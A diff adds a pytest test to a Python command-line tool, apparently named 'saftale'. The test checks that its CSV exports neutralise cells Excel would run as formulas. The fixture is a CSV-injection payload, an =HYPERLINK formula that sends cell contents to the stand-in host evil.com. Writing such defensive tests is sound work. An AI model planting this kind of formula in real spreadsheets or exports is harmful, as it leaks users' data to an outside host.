@@ -1515,3 +1515,31 @@ def test_an_empty_view_still_has_its_header_row(
     run = ok(saftale(*args, "--format", "csv", db=db, cwd=tmp_path))
     assert run.out.removeprefix(BOM).splitlines()[0].startswith(header)
     assert len(run.out.splitlines()) == 1
+
+
+def test_csv_cells_that_excel_would_run_as_formulas_are_text(tmp_path: Path) -> None:
+    # A history file is other people's data: a title or a recorder's name that starts
+    # like a formula must not run when an auditor opens the CSV in Excel.
+    title = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    first_fact = agreement_path("formel")[0]
+    history = [line(first_fact, title=title, recorded_by="@ops")]
+    db = f"sqlite:///{tmp_path / 's.db'}"
+    ok(saftale("import", str(write(tmp_path / "h.jsonl", history)), db=db, cwd=tmp_path))
+    subjects, audit, as_json = many(
+        [
+            ("show", "subjects", "--format", "csv"),
+            ("audit", "--format", "csv"),
+            ("show", "subjects", "--format", "json"),
+        ],
+        db=db,
+        cwd=tmp_path,
+    )
+    header, row = csv_rows(ok(subjects))
+    assert dict(zip(header, row, strict=True))["title"] == "'" + title
+    header, row = csv_rows(ok(audit))
+    audited = dict(zip(header, row, strict=True))
+    assert audited["recorded_by"] == "'@ops"
+    assert audited["on"] == str(first_fact.on)  # a date is left as it is
+    assert as_json.json()[0]["title"] == title  # programs get the text unchanged
+    for cell in [c for r in csv_rows(subjects) + csv_rows(audit) for c in r]:
+        assert not cell.startswith(("=", "+", "-", "@")), cell
